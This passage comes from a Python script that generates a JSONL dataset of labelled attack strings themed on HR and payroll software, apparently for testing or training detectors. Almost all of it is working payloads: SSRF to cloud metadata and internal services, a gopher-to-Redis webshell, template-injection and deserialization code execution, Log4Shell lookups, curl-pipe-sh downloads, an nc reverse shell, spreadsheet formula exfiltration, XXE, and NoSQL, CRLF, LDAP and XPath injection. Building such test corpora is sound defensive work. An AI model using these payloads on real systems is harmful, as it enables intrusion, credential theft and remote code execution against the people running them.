    ("job-feed-url-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("cv-import-gopher-redis-webshell", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0ASET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("avatar-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("cv-import-file-scheme-passwd", "file:///etc/passwd"),
    ("ics-feed-file-scheme-environ", "file:///proc/self/environ"),
    ("cv-import-url-imds+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("avatar-url-imds+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("webhook-url-imds+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("cv-import-url-imds+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-url-consul+short-ip", "http://127.1:8500/v1/kv/?recurse"),
    ("avatar-url-server-status+zero-ip", "http://0/server-status"),
    ("portfolio-url-userinfo-confusion", "http://attacker.example@127.0.0.1:5000/admin/users"),
    ("portfolio-url-backslash-parser-confusion", "http://127.0.0.1:8000\\@cv.attacker.example/"),
    ("cv-import-open-redirect-to-imds", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-url-dns-resolving-internal", "http://metadata.attacker.example/latest/meta-data/"),
    ("job-feed-url-kubernetes-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-url-internal-tomcat-manager", "http://10.0.12.7:8080/manager/html"),
    ("avatar-url-docker-api", "http://192.168.0.10:2375/containers/json"),
    ("ics-feed-etcd-keys", "http://localhost:2379/v2/keys/?recursive=true"),
    ("webhook-url-envoy-admin", "http://127.0.0.1:15000/config_dump"),
    ("webhook-url-vault-secret", "http://127.0.0.1:8200/v1/secret/data/payroll"),
    ("directory-sync-ldap-scheme", "ldap://127.0.0.1:389/dc=corp,dc=example??sub?(objectClass=*)"),
    ("cv-import-jar-scheme", "jar:http://attacker.example/cv.zip!/resume.txt"),
    ("cv-import-netdoc-scheme", "netdoc:///etc/passwd"),
    ("avatar-url-trailing-dot-localhost", "http://localhost.:8080/admin"),
    ("portfolio-url-loopback+enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①:8080/"),
    ("webhook-url-ipv6-embedded-ipv4", "http://[0:0:0:0:0:ffff:127.0.0.1]:3000/"),
    ("avatar-url-redis+octal-int", "http://017700000001:6379/"),
    ("avatar-url-loopback+mixed-hex-octet", "http://0x7f.0.0.1:8080/"),
    ("webhook-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Chr%40corp.example%3E%0D%0ARCPT%20TO%3A%3Cceo%40corp.example%3E%0D%0ADATA%0D%0ASubject%3A%20Payroll%20change%0D%0A%0D%0APlease%20update%20my%20bank%20details.%0D%0A.%0D%0AQUIT%0D%0A"),
    ("cv-import-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
    ("leave-calendar-webcal-internal", "webcal://127.0.0.1:8080/internal/calendar.ics"),
    ("offer-letter-pdf-render-iframe-imds", "Dear Ana,<br>Please find your offer below.<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"800\" height=\"600\"></iframe>"),
    ("offer-letter-pdf-render-xhr-file", "<script>x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',false);x.send();document.write('<pre>'+x.responseText+'</pre>')</script>"),
    ("webhook-url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cv-import-aws-instance-data-host", "http://instance-data/latest/meta-data/"),
    ("webhook-url-ssh-probe+octal-ip", "http://0177.0.0.1:22/"),
    ("plain-localhost-admin", "http://localhost/admin"),
    ("plain-imds-root", "http://169.254.169.254/"),
    ("plain-loopback-mysql-port", "http://127.0.0.1:3306/"),
    ("plain-ipv6-loopback", "http://[::1]/"),
    ("payroll-export-url+decimal-ip", "http://2130706433:8080/admin/payroll/export"),
    ("avatar-url-protocol-relative-imds", "//169.254.169.254/latest/meta-data/"),
    ("webhook-url-internal-db-host", "http://hris-db.internal:5432/"),
    ("ics-feed-prometheus-query", "http://127.0.0.1:9090/api/v1/query?query=up"),
    ("offer-letter-pdf-render-stylesheet-consul", "<link rel=\"stylesheet\" href=\"http://10.0.0.7:8500/v1/agent/self\">Dear Tomás, welcome aboard!"),
]

BILLION = (
    "<?xml version=\"1.0\"?>\n"
    "<!DOCTYPE payroll [\n"
    " <!ENTITY p \"pay\">\n"
    " <!ENTITY p1 \"&p;&p;&p;&p;&p;&p;&p;&p;&p;&p;\">\n"
    " <!ENTITY p2 \"&p1;&p1;&p1;&p1;&p1;&p1;&p1;&p1;&p1;&p1;\">\n"
    " <!ENTITY p3 \"&p2;&p2;&p2;&p2;&p2;&p2;&p2;&p2;&p2;&p2;\">\n"
    " <!ENTITY p4 \"&p3;&p3;&p3;&p3;&p3;&p3;&p3;&p3;&p3;&p3;\">\n"
    " <!ENTITY p5 \"&p4;&p4;&p4;&p4;&p4;&p4;&p4;&p4;&p4;&p4;\">\n"
    " <!ENTITY p6 \"&p5;&p5;&p5;&p5;&p5;&p5;&p5;&p5;&p5;&p5;\">\n"
    " <!ENTITY p7 \"&p6;&p6;&p6;&p6;&p6;&p6;&p6;&p6;&p6;&p6;\">\n"
    " <!ENTITY p8 \"&p7;&p7;&p7;&p7;&p7;&p7;&p7;&p7;&p7;&p7;\">\n"
    "]>\n"
    "<payroll><run>&p8;</run></payroll>"
)

PICKLE0 = "cos\nsystem\n(S'curl -s attacker.example/p | sh'\ntR."

CODE = [
    ("offer-template-jinja2-builtins-import", "Dear {{ candidate.first_name }}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("offer-template-jinja2-cycler-os", "{{ cycler.__init__.__globals__.os.popen('curl -s attacker.example/j | sh').read() }}"),
    ("offer-template-jinja2-subclasses-popen", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("email-template-jinja2-lipsum-environ", "Hi {{ name }}, {{ lipsum.__globals__['os'].environ }}"),
    ("email-template-jinja2-config-leak", "Welcome aboard! {{ config.items() }}"),
    ("offer-template-jinja2-request-open", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("offer-template-jinja2-attr+hex-escape", "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('id').read() }}"),
    ("job-posting-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("job-posting-twig-undefined-filter-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("offer-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("offer-template-velocity-runtime", "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\"))$rt.getRuntime().exec(\"touch /tmp/velocity\")"),
    ("offer-template-erb-backticks", "Dear <%= `id` %>,"),
    ("offer-template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("offer-template-mako-import-os", "<% import os %>${os.popen('id').read()}"),
    ("offer-template-tornado-import", "{% import subprocess %}{{ subprocess.check_output(['id']) }}"),
    ("job-posting-smarty-system", "{$smarty.version}{system('cat /etc/passwd')}"),
    ("offer-view-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("bonus-formula-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("bonus-formula-spel-streamutils", "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}"),
    ("search-param-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("profile-field-jsp-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("bonus-formula-mvel-runtime", "base * 0.1; Runtime.getRuntime().exec('id');"),
    ("bonus-formula-jexl-reflection", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("email-template-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("email-template-ejs-exec", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("email-template-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("offer-template-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("bonus-formula-python-eval-import", "base * 0.10 + __import__('os').system('curl -s attacker.example/b | sh')"),
    ("bonus-formula-node-eval-child-process", "salary*1.05;require('child_process').exec('nc 203.0.113.91 4444 -e /bin/sh')"),
    ("bonus-formula-node-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("greeting-ruby-eval-interpolation", "Tom #{%x(id)}"),
    ("bonus-formula-php-eval-write-shell", "55000; file_put_contents('x.php','<?php system($_GET[0]);');"),
    ("payslip-template-python-format-string", "Payslip for {employee.__init__.__globals__[SECRET_KEY]}"),
    ("report-template-groovy-gstring", "${'id'.execute().text}"),
    ("candidate-name-log4shell-ldap", "Candidate: ${jndi:ldap://203.0.113.30:1389/Exploit}"),
    ("user-agent-log4shell+lower-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("job-title-log4shell+default-value-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example:1099/o}"),
    ("leave-reason-log4shell-env-exfil-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example}"),
    ("scorecard-log4shell-sys-lookup", "Tech 4/5 ${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/x}"),
    ("skills-tag-log4shell+env-default-obfuscation", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldaps://attacker.example/p}"),
    ("api-json-log4shell+unicode-escape", "{\"reason\":\"\\u0024{jndi:ldap://attacker.example/u}\"}"),
    ("saved-search-pickle-protocol0", PICKLE0),
    ("job-import-pyyaml-apply-os-system", "!!python/object/apply:os.system ['id']"),
    ("job-import-pyyaml-subprocess", "title: Payroll Analyst\nlocation: !!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("job-import-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml-payload.jar\"]]]]"),
    ("profile-json-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
    ("profile-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.12:1099/x\",\"autoCommit\":true}"),
    ("settings-json-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\temp\\\\w.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("session-cookie-php-object-injection", 'O:11:"PayslipFile":1:{s:4:"path";s:11:"/etc/passwd";}'),
    ("draft-cookie-php-object-destruct", 'O:13:"ExportCleanup":1:{s:6:"target";s:14:"/var/www/html/";}'),
    ("prefs-cookie-node-serialize-iife", "{\"theme\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n|sh')}()\"}"),
    ("hrxml-import-xstream-eventhandler", "<sorted-set><string>payroll</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/xstream</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("hrxml-import-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE Candidate [<!ENTITY cv SYSTEM \"file:///etc/passwd\">]>\n<Candidate><PersonName><GivenName>&cv;</GivenName></PersonName></Candidate>"),
    ("job-feed-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE JobPositionPosting [<!ENTITY % ext SYSTEM \"http://attacker.example/hr.dtd\"> %ext;]><JobPositionPosting><Title>SRE</Title></JobPositionPosting>"),
    ("resume-xml-xinclude", "<Resume xmlns:xi=\"http://www.w3.org/2001/XInclude\"><Summary><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></Summary></Resume>"),
    ("photo-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text y=\"20\">&h;</text></svg>"),
    ("payroll-xml-entity-expansion-dos", BILLION),
    ("payroll-xml-xxe-ssrf-imds", "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><payroll><note>&m;</note></payroll>"),
    ("leave-xml-xxe-php-filter", "<!DOCTYPE x [<!ENTITY s SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/hris/config.php\">]><leave><reason>&s;</reason></leave>"),
    ("profile-update-proto-pollution", "{\"name\":\"Ana\",\"__proto__\":{\"isAdmin\":true}}"),
    ("profile-update-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"hr_admin\"}}}"),
    ("preferences-query-proto-pollution", "preferences[__proto__][canApprovePayroll]=true"),
    ("settings-proto-pollution-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("candidate-export-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/cv?d=\"&A2&B2,\"Open CV\")"),
    ("candidate-name-csv-dde-cmd", "=cmd|' /C powershell IEX(wget attacker.example/s)'!A0"),
    ("skills-csv-plus-dde", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("notes-csv-at-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("salary-csv-minus-dde", "-2+3+cmd|' /C explorer https://attacker.example'!A0"),
    ("payroll-csv-webservice-exfil", "=WEBSERVICE(\"https://attacker.example/x?salary=\"&D2)"),
    ("sheet-sync-importxml-exfil", "=IMPORTXML(CONCAT(\"https://attacker.example/?ssn=\",C2),\"//a\")"),
    ("export-libreoffice-dde", "=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-yaml-python-apply", "!!python/object/apply:os.system [\"curl attacker.example | sh\"]"),
    ("plain-xxe-file", "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/shadow\">]><d>&e;</d>"),
        ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-erb-system", "<%= system('id') %>"),
    ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
]

NOSQLI = [
    ("login-json-ne-null", "{\"email\": \"j.o'neil@corp\", \"password\": {\"$ne\": null}}"),
    ("login-json-gt-empty", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-form-bracket-ne", "email=hr.admin@corp.example&password[$ne]=wrong"),
    ("login-form-bracket-regex", "email[$regex]=^a.*@corp&password[$ne]=1"),
    ("candidate-filter-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("employee-filter-or-where-salary-leak", "{\"$or\": [{\"employee_id\": \"4471\"}, {\"$where\": \"this.base_salary > 150000\"}]}"),
    ("name-search-where-string-tautology", "' || '1'=='1"),
    ("name-search-where-string-sleep", "Nowak' || sleep(5000) || '"),
    ("skills-filter-or-empty-match-all", "{\"$or\": [{\"skills\": \"python\"}, {}]}"),
    ("login-json-regex-blind", "{\"username\": \"hr.admin\", \"password\": {\"$regex\": \"^P4\"}}"),
    ("filter-expr-strlen-blind", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password_hash\"}, 10]}}"),
    ("filter-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(5000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("report-pipeline-lookup-payroll", "[{\"$lookup\": {\"from\": \"payroll\", \"localField\": \"_id\", \"foreignField\": \"employee_id\", \"as\": \"pay\"}}]"),
    ("couchdb-mango-selector-all", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"ssn\", \"salary\", \"iban\"]}"),
    ("login-form-bracket-exists", "username[$exists]=true&password[$exists]=true"),
    ("team-filter-query-ne", "filter={\"manager_id\":{\"$ne\":-1}}"),
    ("otp-json-nin-empty", "{\"email\": \"ceo@corp.example\", \"otp\": {\"$nin\": []}}"),
    ("reset-token-json-type", "{\"token\": {\"$type\": \"string\"}, \"new_password\": \"Placeholder-123\"}"),
    ("boolean-search-es-query-string-breakout", "java) OR (visibility:internal AND salary_band:*"),
    ("boolean-search-es-range-leak", "kotlin) OR (base_salary:[200000 TO *]"),
    ("filter-where-regex-password", "{\"$where\": \"/^a/.test(this.password_hash)\"}"),
    ("login-form-bracket-ne+urlenc", "password%5B%24ne%5D=x&email=hr.admin%40corp.example"),
    ("mongo-shell-eval-object-breakout", "x', $or: [{}, {a: 'a"),
    ("plain-ne-operator", "{\"$ne\": 1}"),
    ("plain-gt-operator", "{\"$gt\": \"\"}"),
    ("plain-where-true", "{\"$where\": \"1 == 1\"}"),
]

CRLF = [
    ("leave-reason-log-forge-approval", "Dentist 14:00\n2024-06-14T09:12:44Z INFO payroll.approve user=hr.admin employee=4471 amount=25000 status=OK"),
    ("leave-reason-log-forge-audit", "Sick day\r\n[2024-03-04 10:22:01] AUDIT role_change user=j.oneil role=HR_ADMIN by=system"),
    ("leave-reason-access-log-forge+urlenc", "Annual leave%0d%0a127.0.0.1 - admin [04/Mar/2024:10:22:01 +0000] \"POST /payroll/approve HTTP/1.1\" 200 512"),
    ("leave-reason-json-log-forge", "flu\",\"level\":\"INFO\",\"event\":\"leave_approved\",\"approver\":\"ceo"),
    ("exit-comment-log+unicode-line-separator", "Bereavement\u2028ALERT cleared: suspicious login from 203.0.113.9 acknowledged by secops"),
    ("absence-note-log+next-line", "Jury duty\u0085INFO user=admin action=export_all_payslips result=ok"),
    ("absence-note-ansi-escape-log", "Sick day\u001b[1A\u001b[2K2024-05-02 INFO login ok user=hr.admin"),
    ("payslip-filename-header-set-cookie", "Payslip_May.pdf\r\nSet-Cookie: hris_session=attacker-fixed-session; Path=/"),
    ("offer-filename-response-splitting", "offer_letter.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("careers-redirect-location+urlenc", "/careers/thanks%0d%0aLocation:%20https://attacker.example/phish"),
    ("login-next-refresh-header", "/dashboard\r\nRefresh: 0; url=https://attacker.example/"),
    ("lang-cookie-cors-headers", "en-GB\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("redirect-path-set-cookie+unicode-truncation", "/jobs/88213嘊嘍Set-Cookie: role=hr_admin"),
    ("careers-redirect-set-cookie+double-urlenc", "/careers%250d%250aSet-Cookie:%20ats_admin=1"),
    ("export-filename-x-accel-redirect", "report.csv\r\nX-Accel-Redirect: /protected/payslips/4471.pdf"),
    ("candidate-email-bcc-injection", "jane.doe@mail.example\r\nBcc: everyone@corp.example"),
    ("referral-name-cc-subject-injection", "Ana García\r\nCc: payroll@corp.example\r\nSubject: URGENT: update bank details for Ana"),
    ("offer-subject-body-injection", "Offer accepted!\nContent-Type: text/html\n\n<a href=\"https://attacker.example/sso\">Sign your contract</a>"),
    ("candidate-email-bcc+urlenc", "candidate@mail.example%0ABcc:%20list@attacker.example"),
    ("notify-address-smtp-rcpt-injection", "hr@corp.example>\r\nRCPT TO:<exfil@attacker.example"),
    ("reference-message-smtp-data-smuggling", "Thanks for applying\r\n.\r\nMAIL FROM:<ceo@corp.example>\r\nRCPT TO:<finance@corp.example>\r\nDATA\r\nSubject: Wire approval\r\n\r\nPlease wire €48,000 today.\r\n."),
    ("sender-name-reply-to-injection", "Ana García <ana@mail.example>\nReply-To: payroll-help@attacker.example"),
    ("leave-reason-syslog-forge", "Parental leave\n<86>Mar  4 10:22:01 hris-app sshd[811]: Accepted password for root from 10.0.0.5 port 51122 ssh2"),
    ("webhook-path-request-splitting", "/hooks/bgcheck HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nPOST /admin/users/4471/role HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 13\r\n\r\nrole=hr_admin"),
    ("timezone-cookie-attribute-injection", "Europe/Dublin; Domain=.corp.example\r\nSet-Cookie: is_admin=1"),
    ("leave-reason-response-body-injection", "Sick\r\n\r\n<html><body>Session expired. <a href=https://attacker.example/login>Log in again</a></body></html>"),
    ("leave-reason-carriage-return-overwrite", "Car broke down\rINFO 2024-05-02 leave cancelled by manager"),
    ("plain-crlf-set-cookie", "%0d%0aSet-Cookie: admin=true"),
    ("plain-header-injection", "\r\nX-Injected: 1"),
    ("plain-log-newline", "x\nINFO admin login succeeded"),
    ("download-name-full-response-split+urlenc", "payslip.pdf%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Ch1%3ESalary%20portal%20moved%3C/h1%3E"),
]

LDAP_XPATH = [
    ("directory-search-ldap-wildcard-or-breakout", "*)(uid=*))(|(uid=*"),
    ("login-ldap-absolute-true-filter", "hr.admin)(&)"),
    ("login-ldap-attribute-blind", "hr.admin)(description=pin:1*"),
    ("directory-search-ldap-group-enum", "*)(memberOf=cn=Payroll-Admins,ou=Groups,dc=corp,dc=example"),
    ("directory-search-ldap-or-objectclass", "*))(|(objectClass=*"),
    ("directory-search-ldap-password-attr-probe", "j.oneil)(userPassword=*"),
    ("name-search-ldap-employee-type-or", "Müller*)(|(employeeType=contractor)(employeeType=*"),
    ("plain-ldap-wildcard-close", "*)(cn=*))(|(cn=*"),
    ("login-ldap-truncate+null-byte", "hr.admin)(uid=*))%00"),
    ("plain-xpath-tautology", "' or '1'='1"),
    ("employee-xml-login-xpath-or-chain", "hr.admin' or '1'='1' or 'a'='a"),
    ("employee-xml-name-union-salary", "'] | //employee/salary | //x['"),
    ("employee-xml-blind-string-length", "' or string-length(//employee[1]/password)=12 or 'a'='b"),
    ("employee-xml-blind-substring-ssn", "' or substring(//employee[position()=1]/ssn,1,1)='1' or 'a'='b"),
    ("employee-xml-blind-count", "' or count(//employee[salary>150000])>3 or 'a'='b"),
    ("employee-xml-root-name-discovery", "' or name(/*[1])='HRData' or 'a'='b"),
    ("office-xml-all-nodes-union", "Dublin'] | /* | //*['"),
    ("employee-xml-xpath2-doc-oob", "' and doc(concat('http://attacker.example/?',//employee[1]/password))/x or 'a'='b"),
    ("employee-id-xpath-numeric-or", "4471 or 1=1"),
    ("name-contains-xpath-breakout", "x')] | //payslip | //x[contains(name,'"),
]

LITERALS = {
    "sqli": SQLI,
    "xss": XSS,
    "cmdi": CMDI,
    "traversal": TRAVERSAL,
    "ssrf": SSRF,
    "code": CODE,
    "nosqli": NOSQLI,
    "crlf": CRLF,
    "ldap-xpath": LDAP_XPATH,
}

# ---------------------------------------------------------------------------
# Computed encoded variants of hand-written bases (small helpers)
# ---------------------------------------------------------------------------


def url_once(s):
    return quote(s, safe="")


def url_twice(s):
    return quote(quote(s, safe=""), safe="")


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


ENCODED = [
    # (category, class, helper, hand-written base)
    ("sqli", "name-search-union+urlenc", url_once, "Kerry' UNION SELECT username, password_hash FROM hr_users-- -"),
    ("sqli", "name-search-mysql-sleep+double-urlenc", url_twice, "O'Brien' AND SLEEP(6)-- -"),
    ("sqli", "skills-tag-tautology+urlenc", url_once, "sql') OR 1=1-- -"),
    ("xss", "job-search-reflected-script+urlenc", url_once, "<script>fetch('//attacker.example/'+document.cookie)</script>"),
    ("xss", "candidate-name-attr-breakout+double-urlenc", url_twice, "\"><img src=x onerror=alert(document.domain)>"),
    ("cmdi", "payslip-name-curl-sh+double-urlenc", url_twice, "payslip.pdf;curl attacker.example/p|sh"),
    ("cmdi", "webhook-host-backticks+urlenc", url_once, "hr-hooks.corp.example`id`"),
    ("traversal", "attachment-dotdot-shadow+urlenc", url_once, "../../../../etc/shadow"),
    ("ssrf", "cv-import-imds-role+urlenc", url_once, "http://169.254.169.254/latest/meta-data/iam/security-credentials/hr-app-role"),
    ("code", "saved-search-cookie-pickle+base64", b64, PICKLE0),
    ("code", "offer-template-jinja2-popen+urlenc", url_once, "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("code", "prefs-cookie-proto-pollution+base64", b64, "{\"__proto__\":{\"isHrAdmin\":true}}"),
    ("crlf", "payslip-filename-set-cookie+urlenc", url_once, "payslip.pdf\r\nSet-Cookie: hris_role=admin"),
    ("ldap-xpath", "directory-search-ldap-breakout+urlenc", url_once, "*)(|(mail=*)(uid=*"),
]


def main():
    rng = random.Random(SEED)  # fixed seed; used only to pick a stable order inside each category
    rows = []
    stats = {}
    for category, items in LITERALS.items():
        block = [(category, cls, v, True) for cls, v in items]
        for cat, cls, helper, base in ENCODED:
            if cat == category:
                block.append((category, cls, helper(base), False))
        rng.shuffle(block)
        rows.extend(block)
        n_lit = sum(1 for r in block if r[3])
        stats[category] = (len(block), n_lit)

    seen_values = set()
    seen_classes = set()
    out = []
    for i, (category, cls, value, _lit) in enumerate(rows, 1):
        if not isinstance(value, str) or not value or len(value) > 1800:
            raise SystemExit(f"bad value for {cls!r}")
        if value in seen_values:
            raise SystemExit(f"duplicate value: {value!r}")
        if cls in seen_classes:
            raise SystemExit(f"duplicate class: {cls!r}")
        seen_values.add(value)
        seen_classes.add(cls)
        out.append({"id": f"{ID_PREFIX}-{i:05d}", "category": category, "class": cls,
                    "label": "attack", "value": value})

    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for category, (n, n_lit) in stats.items():
        total_lit += n_lit
        print(f"{category:12s} {n:4d}  literals {n_lit:3d}")
    print(f"{'total':12s} {len(out):4d}  literals {total_lit:3d}")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"plain- classes {plain}; encoded classes {enc}")


if __name__ == "__main__":
    main()
